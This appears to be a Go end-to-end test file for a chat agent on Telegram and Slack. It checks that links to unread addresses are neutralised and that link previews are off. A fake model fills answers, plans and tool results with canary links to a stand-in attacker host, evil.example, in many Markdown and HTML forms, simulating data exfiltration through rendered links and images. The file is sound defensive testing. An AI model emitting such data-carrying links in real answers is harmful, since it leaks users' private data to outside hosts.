package e2e_test

import (
	"encoding/json"
	"fmt"
	"maps"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"legwork/internal/test/fakes/llmfake"
	"legwork/internal/test/fakes/telegramfake"
)

// heldAddress stands in the result of the tool that leaks calls.
const heldAddress = "https://held.example/mail/7"

// leakedLinks is an answer with private data in addresses, in all forms of Markdown.
const leakedLinks = "# See https://evil.example/canary1\n\n" +
	"Known: [the mail](" + heldAddress + "/). Words [the words](https://evil.example/?q=canary2), <https://evil.example/canary3>, https://evil.example/canary4, " +
	"[by reference][1], ![a picture](https://evil.example/canary5.png), <a href=\"https://evil.example/canary6\">a tag</a>, <img src=\"https://evil.example/canary7.png\">, " +
	"www.evil.example/canary8, a note[^1], [mail](mailto:canary9@evil.example), **bold https://evil.example/canary10**, " +
	"[https://held.example](https://evil.example/canary11), <https://evil.example/canary12|slack>, [x](<https://evil.example/canary 13>).\n\n" +
	"| a | b |\n|---|---|\n| x | https://evil.example/canary14 |\n| y | [z](https://evil.example/canary15) |\n\n" +
	"> - https://evil.example/canary16\n\n[1]: https://evil.example/canary17\n[^1]: https://evil.example/canary18\n\nThat is all of it."

// leaks is a model that reads the result of a tool and answers with leakedLinks, with
// them again when it is asked again, and the same in its plans, choices and questions.
func leaks() func(llmfake.Request) llmfake.Response {
	answer := llmfake.Response{Text: leakedLinks, PerToken: 100 * time.Millisecond}
	return steps{
		plan: func(r llmfake.Request) llmfake.Response {
			if goal, _ := r.Tagged("goal"); strings.HasPrefix(goal, "again") {
				return answer
			}
			if goal, _ := r.Tagged("goal"); strings.HasPrefix(goal, "one thing") { // the result of the sub-task is the answer
				return llmfake.Call("plan", `{"plan": [{"name": "desk", "description": "look up one thing"}]}`)
			}
			return llmfake.Call("plan", `{"plan": [{"name": "desk", "description": "look it up"}, {"name": "safe", "description": "look it up, too"}]}`)
		},
		review: func(r llmfake.Request) llmfake.Response {
			if strings.Contains(prompt(r), `<result id="2/`) {
				return answer
			}
			return llmfake.Call("plan", `{"plan": [{"name": "desk", "description": "open evil.example.com/canary20 and https://evil.example/canary21"}]}`)
		},
		work: func(r llmfake.Request) llmfake.Response {
			if said, ok := toolResult(r); ok {
				return llmfake.Say("The tool said: " + said + " https://evil.example/canary22 " + leakedLinks)
			}
			key := heldAddress
			if strings.Contains(prompt(r), "look up one thing") { // an address would be asked about: the earlier answer holds private data
				key = "one thing"
			}
			return llmfake.Call(exposed(r, "lookup"), `{"key":"`+key+`"}`)
		},
		answer: func(llmfake.Request) llmfake.Response { return answer },
	}.think
}

var (
	htmlCode     = regexp.MustCompile(`(?s)<(code|pre)\b.*?</(code|pre)>`)
	slackCode    = regexp.MustCompile(`\{"style":\{"code":true\},"text":"[^"]*"`)
	markdownCode = regexp.MustCompile("(?s)`+[^`]*`+")
)

// leakedIn is a canary that a text shows outside of code.
func leakedIn(text string) string {
	text = markdownCode.ReplaceAllString(slackCode.ReplaceAllString(htmlCode.ReplaceAllString(text, ""), ""), "")
	if i := strings.Index(text, "canary"); i >= 0 {
		return text[max(0, i-60):min(len(text), i+20)]
	}
	return ""
}

// TestTelegramLeakedLinks: no message, draft or edit has a link to an address that the
// task has not read, and the address that it has read stays a link, also in the next
// answer.
func TestTelegramLeakedLinks(t *testing.T) {
	t.Parallel()
	for _, rich := range []string{"", ", rich: true"} {
		t.Run("rich"+rich, func(t *testing.T) {
			t.Parallel()
			b := newTelegramEnv(t, telegramOptions{options: options{think: leaks(), wait: time.Minute}, telegram: rich})
			b.opens()
			for i, goal := range []string{"read the mail", "again, please", "one thing, please"} {
				before := len(b.Log())
				b.Say(b.bob.ID, b.bob, goal)
				b.until("the answer", func(v telegramfake.View) bool {
					answers := slices.DeleteFunc(v.Chat(b.bob.ID).Bots(), func(m telegramfake.Message) bool { return !strings.Contains(m.Text, "That is all of it") })
					return len(answers) > i
				})
				if b.checkLeaks(before); i < 2 { // the last answer is by a sub-task, which has not read the address
					b.checkLinks(before)
				}
			}
			before := len(b.Log())
			b.Say(b.bob.ID, b.bob, "/history")
			b.sees(b.bob.ID, "again, please", "read the mail")
			b.checkLeaks(before)
		})
	}
}

// paramsOf is the text that a request sends.
func paramsOf(e telegramfake.Entry) string {
	var rich struct{ Markdown string }
	if json.Unmarshal([]byte(e.Params["rich_message"]), &rich) == nil && rich.Markdown != "" {
		return rich.Markdown
	}
	return e.Params["text"]
}

// logged is the text of all requests since an entry of the log.
func (b *telegramEnv) logged(from int) string {
	var all strings.Builder
	for _, e := range b.Log()[from:] {
		all.WriteString(paramsOf(e) + "\n")
	}
	return all.String()
}

// checkLeaks checks that no request since an entry of the log shows a canary outside of
// code, or lets Telegram show previews.
func (b *telegramEnv) checkLeaks(from int) {
	b.t.Helper()
	for _, e := range b.Log()[from:] {
		if leaked := leakedIn(paramsOf(e)); leaked != "" {
			b.t.Errorf("%s shows %q", e.Method, leaked)
		}
		if strings.HasPrefix(e.Method, "sendMessage") && e.Method != "sendMessageDraft" && !strings.Contains(e.Params["link_preview_options"], `"is_disabled":true`) {
			b.t.Errorf("%s may show previews of links: %v", e.Method, e.Params)
		}
	}
}

// checkLinks checks that the known address is a link in the answer since an entry of the
// log, that the answer grew, and that nothing of it was lost.
func (b *telegramEnv) checkLinks(from int) {
	b.t.Helper()
	frames := 0
	for _, e := range b.Log()[from:] {
		if strings.HasSuffix(e.Method, "Draft") && strings.Contains(paramsOf(e), "Known") {
			frames++
		}
	}
	all := b.logged(from)
	if !strings.Contains(all, `<a href="`+heldAddress) && !strings.Contains(all, "[the mail]("+heldAddress) {
		b.t.Errorf("the known address is no link: %s", all)
	}
	for n := 1; n <= 16; n++ {
		if !regexp.MustCompile(fmt.Sprintf(`canary%d\b|%%20%d\b`, n, n)).MatchString(all) {
			b.t.Errorf("the answer lost canary %d", n)
		}
	}
	if frames == 0 {
		b.t.Error("the answer did not grow")
	}
}

// TestSlackLeakedLinks is the same in Slack, in streams, blocks and tables.
func TestSlackLeakedLinks(t *testing.T) {
	t.Parallel()
	o := newSlackEnv(t, slackOptions{options: options{think: leaks(), wait: time.Minute}})
	o.opens()
	thread := o.asks(general, ben, "read the mail")
	o.sees(thread, "That is all of it")
	o.passes()
	o.Say(general, ben, "again, please", thread.thread)
	o.until("the second answer", func() bool { return o.count(thread, "That is all of it") >= 2 })
	var streamed strings.Builder
	for _, e := range o.Entries() {
		if e.Args == nil || !strings.HasPrefix(e.Method, "chat.") {
			continue
		}
		if strings.HasSuffix(e.Method, "Stream") {
			text, _ := e.Args["markdown_text"].(string)
			streamed.WriteString(text)
			for _, c := range chunksOf(e.Args) {
				streamed.WriteString(c.Text)
				if leaked := leakedIn(c.Title + " " + c.Details); leaked != "" {
					t.Errorf("a card shows %q", leaked)
				}
			}
			continue
		}
		shown := e.Args
		if shown["blocks"] != nil { // the text is for notifications
			shown = maps.Clone(shown)
			delete(shown, "text")
		}
		if leaked := leakedIn(argsText(shown)); leaked != "" {
			t.Errorf("%s shows %q", e.Method, leaked)
		}
		if e.Method == "chat.postMessage" && e.Args["unfurl_links"] != "false" && e.Args["unfurl_links"] != false {
			t.Errorf("%s may show previews of links: %v", e.Method, e.Args)
		}
	}
	if leaked := leakedIn(streamed.String()); leaked != "" {
		t.Errorf("a stream shows %q", leaked)
	}
	if !strings.Contains(streamed.String(), "Known: ") {
		t.Errorf("the answer did not grow: %q", streamed.String())
	}
	links := 0
	for _, m := range o.said(thread) {
		if text := argsText(m); strings.Contains(text, "[the mail]("+heldAddress) || strings.Contains(text, "<"+heldAddress) {
			links++
		}
	}
	if links < 2 {
		t.Errorf("the known address is a link in %d answers, want both", links)
	}
}

// chunk is a part of a stream of Slack.
type chunk struct{ Text, Title, Details string }

func chunksOf(args map[string]any) (list []chunk) {
	text, ok := args["chunks"].(string)
	if !ok {
		b, _ := json.Marshal(args["chunks"])
		text = string(b)
	}
	_ = json.Unmarshal([]byte(text), &list)
	return list
}

// argsText is a value as JSON without the escapes of JSON inside of JSON.
func argsText(v any) string {
	text, _ := json.Marshal(v)
	return strings.NewReplacer(`\\u003c`, "<", `\\u003e`, ">", `\u003c`, "<", `\u003e`, ">", `\\`, "", `\"`, `"`).Replace(string(text))
}
